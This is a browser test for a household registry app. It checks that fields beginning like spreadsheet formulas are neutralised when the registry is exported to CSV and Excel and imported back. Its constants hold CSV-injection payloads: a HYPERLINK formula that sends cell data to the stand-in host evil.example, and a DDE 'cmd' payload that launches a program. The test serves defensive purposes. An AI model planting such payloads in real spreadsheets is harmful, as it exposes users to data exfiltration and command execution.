"""An admin on the phone imports a department's list whose texts begin like formulas, downloads
the registry as CSV and as Excel, finds those texts inert in both, and imports the Excel back:
the same person, updated, not doubled."""

import csv
import io
from pathlib import Path

import pytest
from openpyxl import load_workbook
from playwright.sync_api import Page, expect

from tests.browser.conftest import screenshot, screenshot_on_failure, sign_in
from tests.factories import id_number
from tests.sheets import HEADER, as_csv, person_row

pytestmark = pytest.mark.browser

ADDRESS = '=HYPERLINK("http://evil.example/?x="&B2,"查看")'
GROUP = "=cmd|'/c calc'!A1"
NAME = "@SUM(1)"
LISTED = person_row(name=NAME, number=id_number(order=123), address=ADDRESS, key="-2+3")
LIST = as_csv([[*LISTED, GROUP]], header=[*HEADER, "村民小组"])


def import_list(page: Page, server: str, name: str, content: bytes) -> None:
    page.goto(f"{server}/imports")
    page.get_by_label("文件").set_input_files({"name": name, "mimeType": "", "buffer": content})
    page.get_by_role("button", name="上传").click()
    page.get_by_role("button", name="导入1行有效数据").click()
    expect(page.get_by_text("已导入。")).to_be_visible()


def download(page: Page, link: str) -> Path:
    with page.expect_download() as started:
        page.locator("details.export").get_by_role("link", name=link, exact=True).click()
    return Path(started.value.path())


def test_formula_like_texts_download_inert_and_import_back_unchanged(page: Page, live_server):
    page.set_viewport_size({"width": 390, "height": 844})
    with screenshot_on_failure(page, "export-formulas"):
        sign_in(page, live_server, "alice")
        import_list(page, live_server, "民政局名单.csv", LIST)

        page.goto(f"{live_server}/households")
        rows = page.locator("#household-rows")
        expect(rows).to_contain_text(NAME)
        page.locator("details.export summary").click()
        screenshot(page, "export-formulas-menu")

        header, row = csv.reader(io.StringIO(download(page, "CSV").read_text("utf-8-sig")))
        listed = dict(zip(header, row, strict=True))
        assert (listed["姓名"], listed["住址"]) == ("'" + NAME, "'" + ADDRESS)
        assert (listed["户号"], listed["村民小组"]) == ("'-2+3", "'" + GROUP)

        excel = download(page, "Excel（完整号码，将记录在案）").read_bytes()
        header, row = load_workbook(io.BytesIO(excel)).active.iter_rows()
        cells = {title.value: cell for title, cell in zip(header, row, strict=True)}
        for column, text in (("姓名", NAME), ("住址", ADDRESS), ("村民小组", GROUP)):
            cell = cells[column]
            assert (cell.value, cell.data_type, cell.quotePrefix) == (text, "s", True)

        import_list(page, live_server, "住户名单.xlsx", excel)
        expect(page.locator(".tile", has_text="已更新").locator("strong")).to_have_text("1")
        expect(page.locator(".tile", has_text="新增人员").locator("strong")).to_have_text("0")
        screenshot(page, "export-formulas-imported-back")

        page.goto(f"{live_server}/households")
        expect(rows).to_contain_text("共1户")
        rows.get_by_role("link", name=NAME).click()
        expect(page.get_by_role("heading", level=1)).to_have_text(ADDRESS)
        screenshot(page, "export-formulas-household")
